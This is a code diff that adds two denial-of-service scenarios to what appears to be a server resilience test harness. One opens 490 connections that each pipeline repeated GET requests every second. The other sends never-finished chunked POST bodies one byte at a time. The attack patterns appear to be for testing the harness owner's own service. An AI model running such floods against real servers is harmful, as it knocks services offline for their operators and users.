@@ -2,7 +2,7 @@ import type { Socket } from 'node:net';
 import * as bodies from './bodies.ts';
 import { type Attack, askForever, drip, flood, writeForever } from './flood.ts';
 import { ordersAsCsv, pagesNdjson, smallPages } from './reads.ts';
-import { get } from './requests.ts';
+import { get, postHead } from './requests.ts';
 
 const many = 2_100;
 
@@ -96,6 +96,32 @@ export const volleys: Attack = (target, signal) => {
     play(socket) {
       socket.resume();
       everySecond(socket, () => socket.write(bytes));
+    },
+  });
+};
+
+/** As many connections as one address may have, each with as many requests as may wait, at the same instant. */
+export const allowedVolleys: Attack = (target, signal) => {
+  const bytes = Buffer.from(get('/api/v1/me', target.key).repeat(9));
+  return flood(target, signal, {
+    connections: 490,
+    play(socket) {
+      socket.resume();
+      everySecond(socket, () => socket.write(bytes));
+    },
+  });
+};
+
+/** The same of bodies in chunks of a single byte, none of which is finished. */
+export const chunkVolleys: Attack = (target, signal) => {
+  const head = postHead(target.key, 0).replace('Content-Length: 0', 'Transfer-Encoding: chunked');
+  const chunks = '1\r\n \r\n'.repeat(10_000);
+  return flood(target, signal, {
+    connections: 490,
+    play(socket) {
+      socket.resume();
+      socket.write(head);
+      everySecond(socket, () => socket.write(chunks));
     },
   });
 };
@@ -230,6 +256,8 @@ const own = {
   shortPipelining,
   unreadAnswers,
   volleys,
+  allowedVolleys,
+  chunkVolleys,
   shortVolleys,
   resetPipelines,
   manyHeaders,
